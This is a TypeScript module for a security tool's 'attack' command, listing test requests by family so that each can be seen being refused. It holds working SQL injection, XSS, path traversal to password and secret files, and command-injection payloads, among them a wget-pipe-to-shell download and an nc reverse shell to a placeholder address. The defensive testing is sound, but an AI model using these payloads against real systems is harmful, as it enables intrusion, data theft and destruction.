/** The attacks that `secbeat attack` can send: one short list a family, enough to see each family being refused. */

/** One request of an attack. */
export interface AttackRequest {
  readonly method: 'GET' | 'POST';
  /** Path and query, already encoded. */
  readonly target: string;
  readonly fields?: Readonly<Record<string, string>>;
  readonly body?: string;
}

/** One family. */
export interface AttackFamily {
  readonly name: string;
  readonly description: string;
  readonly requests: readonly AttackRequest[];
}

const form = { 'Content-Type': 'application/x-www-form-urlencoded' };
const json = { 'Content-Type': 'application/json' };

function get(path: string, value: string): AttackRequest {
  return { method: 'GET', target: path + encodeURIComponent(value) };
}

/** All families, in the order in which `mix` sends them. */
export const attackFamilies: readonly AttackFamily[] = [
  {
    name: 'sqli',
    description: 'SQL injection in query, form and JSON',
    requests: [
      get('/product?id=', "1' OR '1'='1"),
      get('/product?id=', '1 UNION SELECT name, password, 1, 1, 1 FROM customer--'),
      get('/category?name=', "books'; DROP TABLE customer;--"),
      get('/product?id=', '1 AND (SELECT 1 FROM (SELECT SLEEP(5))x)'),
      { method: 'POST', target: '/login', fields: form, body: `name=admin'--&password=x` },
      { method: 'POST', target: '/api/login', fields: json, body: `{"name":"' OR 1=1--","password":"x"}` },
    ],
  },
  {
    name: 'xss',
    description: 'cross-site scripting in query and form',
    requests: [
      get('/search?q=', '<script>alert(1)</script>'),
      get('/search?q=', '"><img src=x onerror=alert(1)>'),
      get('/search?q=', '<svg/onload=alert(document.cookie)>'),
      get('/search?q=', 'javascript:alert(1)//'),
      {
        method: 'POST',
        target: '/comment',
        fields: form,
        body: 'product=1&author=x&text=%3Ciframe%20src%3Djavascript%3Aalert(1)%3E',
      },
    ],
  },
  {
    name: 'traversal',
    description: 'path traversal and local files',
    requests: [
      { method: 'GET', target: '/../../../../etc/passwd' },
      { method: 'GET', target: '/static/%2e%2e/%2e%2e/etc/shadow' },
      get('/manual?file=', '../../../../etc/passwd'),
      get('/manual?file=', '..\\..\\windows\\win.ini'),
      { method: 'GET', target: '/.env' },
      { method: 'GET', target: '/.git/config' },
    ],
  },
  {
    name: 'command',
    description: 'command injection',
    requests: [
      get('/ping?host=', '127.0.0.1; cat /etc/passwd'),
      get('/ping?host=', '$(id)'),
      get('/ping?host=', '`wget http://198.51.100.1/x -O- | sh`'),
      get('/ping?host=', '| nc -e /bin/sh 198.51.100.1 4444'),
    ],
  },
  {
    name: 'scanner',
    description: 'what scanners announce about themselves',
    requests: [
      { method: 'GET', target: '/', fields: { 'User-Agent': 'sqlmap/1.7' } },
      { method: 'GET', target: '/', fields: { 'User-Agent': 'Mozilla/5.0 (compatible; Nikto/2.5.0)' } },
      { method: 'GET', target: '/', fields: { 'User-Agent': 'Nuclei - Open-source project' } },
    ],
  },
];
